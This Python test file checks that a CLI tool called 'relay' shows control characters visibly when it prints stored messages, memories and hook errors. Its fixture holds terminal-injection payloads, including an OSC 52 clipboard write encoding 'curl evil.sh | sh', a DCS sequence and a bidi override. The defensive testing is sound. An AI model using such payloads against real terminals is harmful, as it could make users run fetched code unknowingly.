"""Stored text never acts on the reader's terminal (issue 12): messages, memories, logged
hook calls and sessions are printed with their control characters visible; `--json`
stays exact."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from relay.protocol.display import visible

RELAY = str(Path(sys.executable).parent / "relay")
OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes `curl evil.sh | sh` to the clipboard
DCS = "\x1bP+q544e\x1b\\"
HOSTILE = f"hello {OSC52}there {DCS}and \x9b2J\u202eevil"


def test_visible_shows_every_control_character_and_keeps_lines() -> None:
    assert visible(HOSTILE) == (
        "hello ^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^Gthere ^[P+q544e^[\\and <U+009B>2J<U+202E>evil"
    )
    assert visible("one\n\ttwo\r\x7f") == "one\n\ttwo^M^?"
    assert visible("plain — ünïcode ✓") == "plain — ünïcode ✓"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "project"
    (root / ".git").mkdir(parents=True)
    return root


def _relay(project: Path, *args: str, cwd: bool = True, check: bool = True) -> str:
    done = subprocess.run(
        [RELAY, *args, *(("--cwd", str(project)) if cwd else ())],
        capture_output=True,
        text=True,
        env={**os.environ, "USER": "pat"},
        timeout=60,
        check=False,
    )
    assert done.returncode == 0 or not check, done.stderr
    return done.stdout


def test_messages_and_memories_are_shown_safely_and_exactly_in_json(
    project: Path, relay_home: Path
) -> None:
    from relay.services.messaging.mailbox import SqliteMailbox

    team = "safe"
    mailbox = SqliteMailbox()
    try:
        mailbox.register_agent("Bob", team=team, session_id="bob")
        mailbox.send(team=team, sender="Alice", recipient="Bob", body=HOSTILE)
    finally:
        mailbox.close()
    _relay(project, "memory", "save", HOSTILE)
    shown = {
        "inbox": _relay(project, "inbox", "Bob", "--team", team),
        "messages": _relay(project, "messages", "--team", team),
        "memory list": _relay(project, "memory", "list"),
        "memory search": _relay(project, "memory", "search", "hello"),
    }
    for command, text in shown.items():
        assert not any(ord(c) < 0x20 and c not in "\n\t" for c in text), command
        assert "\x9b" not in text and "\u202e" not in text, command
        assert "^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G" in text, command
    [delivery] = json.loads(_relay(project, "inbox", "Bob", "--team", team, "--json"))
    assert delivery["message"]["body"] == HOSTILE
    [memory] = json.loads(_relay(project, "memory", "list", "--json"))
    assert memory["content"] == HOSTILE


def test_a_hooks_error_is_shown_safely_by_hooks_log_and_hooks_test(
    project: Path, relay_home: Path
) -> None:
    """A hook's stderr (foreign text) in an error: `relay hooks log` and `relay hooks test`
    show it visibly."""
    program = f"import sys; sys.stderr.write({HOSTILE!r}); sys.exit(1)"
    hook = {"command": sys.executable, "args": ["-c", program], "name": "noisy"}
    (relay_home / "settings.json").write_text(
        json.dumps({"hooks": {"BeforeTool": [{"hooks": [hook]}]}})
    )
    event = json.dumps({"tool_name": "Bash", "tool_input": {"command": "ls"}})
    ran = subprocess.run(
        [RELAY, "hooks", "run", "BeforeTool", "--cwd", str(project)],
        input=event,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert "noisy" in ran.stdout, ran.stderr
    for args in (("hooks", "log"), ("hooks", "test", "BeforeTool")):
        # `hooks test` exits 1: the hook failed.
        text = _relay(project, *args, check=args[1] == "log")
        assert "^[]52;c;" in text, args
        assert "\x1b]52" not in text and "\x9b" not in text, args
